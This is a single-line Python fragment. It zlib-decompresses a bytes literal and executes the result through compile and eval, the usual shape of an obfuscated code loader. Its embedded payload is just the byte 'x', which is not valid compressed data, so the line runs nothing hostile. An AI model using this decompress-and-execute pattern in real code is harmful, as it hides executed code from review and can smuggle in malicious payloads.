eval(compile(__import__('zlib').decompress(b'x'), 'a', 'exec'))
